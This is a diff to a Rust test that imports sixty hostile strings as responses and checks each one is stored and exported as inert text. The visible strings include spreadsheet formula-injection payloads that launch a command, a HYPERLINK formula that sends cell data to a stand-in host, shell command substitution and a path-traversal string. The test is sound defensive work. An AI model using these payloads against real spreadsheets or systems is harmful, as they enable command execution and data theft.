@@ -73,7 +73,7 @@ const SCRIPTS: [&str; 60] = [
     "-2+3+cmd|' /C calc'!A0",
     "@SUM(1+1)*cmd|' /C calc'!A0",
     "=HYPERLINK(\"//x.example/?x=\"&A1,\"x\")",
-    "$(touch /tmp/x); `touch /tmp/x`",
+    "$(touch x); `touch x`",
     "../../../../etc/passwd",
 ];
 
@@ -94,7 +94,11 @@ async fn sixty_scripts_come_out_as_the_text_they_are(database: Database) {
     let app = App::spawn(database);
     let database = app.database();
     let done = import(&path, database, &["--rejects", &rejects]);
-    assert!(done.err.contains("60 responses are new, 0 were there before, 60 rows"), "{:?}", done.err.lines().last());
+    assert!(
+        done.err.contains("60 responses are new, 0 were there before, 60 rows"),
+        "{:?}",
+        done.err.lines().last()
+    );
     let said: Vec<serde_json::Value> =
         documents(database).await.iter().map(|d| serde_json::from_str(d).unwrap()).collect();
     for (script, document) in SCRIPTS.iter().zip(&said) {
@@ -112,7 +116,7 @@ async fn sixty_scripts_come_out_as_the_text_they_are(database: Database) {
             .flat_map(|row| row.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
             .collect();
         for script in SCRIPTS {
-            let is_it = |cell: &String| cell.strip_prefix('\'').unwrap_or(cell) == script;
+            let is_it = |cell: &String| cell == script || cell.strip_prefix('\'') == Some(script);
             assert!(cells.iter().any(is_it), "{script} is not in {written}");
         }
         let runs = |cell: &&String| cell.starts_with(['=', '+', '-', '@']);
